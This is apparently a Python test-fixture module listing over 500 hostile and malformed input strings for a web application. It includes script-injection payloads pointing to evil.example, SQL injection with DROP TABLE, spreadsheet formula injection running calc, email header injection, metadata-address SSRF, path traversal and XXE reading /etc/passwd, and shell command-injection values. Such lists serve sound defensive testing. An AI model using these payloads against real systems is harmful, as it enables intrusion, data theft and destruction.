"""What hostile people and broken programs type: over 500 strings, each with what it tries."""

import itertools
import string

# What spreadsheet programs take for the start of a formula, in half and full width.
FORMULA_STARTS = tuple("=+-@＝＋－＠\t\r\n")

# Ways out of where a text may stand in a page, and what then runs.
WAYS_OUT = ["", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</option></select>", "`"]
SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href=' jAvAsCrIpT&colon;alert(1)'>click</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import'//evil.example/x.css'</style>",
    "<object data=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1) style=position:fixed;inset:0>x",
    " autofocus onfocus=alert(1) x=",
    " style=animation-name:x onanimationstart=alert(1) ",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example",
    "https://evil.example",
    "https:evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "http://localhost@evil.example/",
    "http://127.0.0.1:8000/staff/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::1]/",
    "http://[",
    "file:///etc/passwd",
    "ftp://example.org/",
]
FORMULAS = [
    f"{start}{rest}"
    for start in [*FORMULA_STARTS, " =", "\u00a0=", "\u200b=", '"=', "'="]
    for rest in ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', "SUM(1)*0&A1"]
]
LINE_ENDS = ["\r\n", "\n", "\r", "%0d%0a", "\u2028", "\u0085", "\x0b", "=?utf-8?q?=0D=0A?="]
HEADERS = [
    f"{start}{end}{rest}"
    for start in ["", "A name", "name@example.org"]
    for end in LINE_ENDS
    for rest in ["Bcc: evil@evil.example", "Set-Cookie: session=evil", "\r\n<script>alert(1)</script>"]
]
MAIL = [
    "a@example.org, evil@evil.example",
    "a@example.org;evil@evil.example",
    "<evil@evil.example>",
    '"evil@evil.example" <a@example.org>',
    "=?utf-8?b?ZXZpbEBldmlsLmV4YW1wbGU=?= <a@example.org>",
    "a@example.org\x00evil@evil.example",
    "a@exa\u200bmple.org",
    "a@-example.org",
    "a" * 250 + "@example.org",
    "ä@exämple.org",
    "a@[127.0.0.1]",
    "BEGIN:VEVENT\r\nSUMMARY:evil\r\nEND:VEVENT",
]
QUERIES = [
    "' OR '1'='1",
    "'; DROP TABLE initiatives_initiative; --",
    '" OR ""="',
    "1) UNION SELECT NULL--",
    "%' AND 1=0 --",
    "\\",
    "%",
    "_",
    "%%%s",
    "{0.__class__}",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "${7*7}",
    "<%= 7 * 7 %>",
    "#{7*7}",
    "(((((",
    ":*",
    "a:*b",
    "!!!",
    "& | ! < > ( )",
    "<->",
    '"unclosed',
    "-",
    "or",
    "not in()",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    ".",
    "..",
    "; ls",
    "| id",
    "`id`",
    "$(id)",
    "*)(uid=*))(|(uid=*",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    '{"$ne": null}',
    "[]",
    "{}",
    "__proto__",
    "constructor",
    "null",
    "undefined",
    "None",
    "True",
    "NaN",
]
NUMBERS = [
    "0",
    "-1",
    "-0",
    "1.5",
    "1e400",
    "1e-400",
    "0x10",
    "٣",
    "²",
    "1_000",
    "2147483647",
    "2147483648",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    "9" * 100,
    "9" * 5000,
    "Infinity",
    "-inf",
    "1,2",
    " 1 ",
    "+1",
]
DATES = [
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "2026-02-30",
    "2026-13-01",
    "2026-W01-1",
    "31/12/9999",
    "2026-01-01T25:61:61",
    "-2026-01-01",
    "1e3",
    "٢٠٢٦-٠١-٠١",
]
CHARACTERS = [
    "\x00",
    "a\x00b",
    "%00",
    *(f"a{chr(code)}b" for code in [1, 2, 7, 8, 11, 12, 14, 27, 31, 127, 0x80, 0x9F]),
    "\ufeff",
    "\ufffe",
    "\uffff",
    "\ud800",
    "a\udfffb",
    "\ud83d",
    "\U0001f600" * 50,
    "\U0010ffff",
    "\u202eevil\u202c",
    "\u2066evil\u2069",
    "\u200b\u200c\u200d\u2060",
    "Z" + "\u0310\u0345\u0322" * 60,
    "e\u0301 \u00e9 ﬁ Ǆ ß ſ İ ı",
    "שלום مرحبا 你好",
    "\u0600\u06dd\u070f",
    "ﷺ" * 100,
    "\t\n\r ",
    "\u3000",
    "\u00a0",
    "",
    " ",
]
LONG = [
    "a" * 300,
    "a " * 5000,
    "<" * 10_000,
    "&" * 3000,
    "\n" * 3000,
    "\r\n" * 2001,
    "(" * 2000 + ")" * 2000,
    '"' * 3001,
    "-" * 2047,
    "word " * 2100,
    "é" * 3000,
    ",".join(string.ascii_lowercase * 100),
]
STRINGS = [
    *(way + script for way, script in itertools.product(WAYS_OUT, SCRIPTS)),
    *ADDRESSES,
    *FORMULAS,
    *HEADERS,
    *MAIL,
    *QUERIES,
    *NUMBERS,
    *DATES,
    *CHARACTERS,
    *LONG,
]

# What may stand in a record whatever way it came there: PostgreSQL stores neither of these.
STORABLE = [
    text for text in STRINGS if "\x00" not in text and not any("\ud800" <= letter <= "\udfff" for letter in text)
]
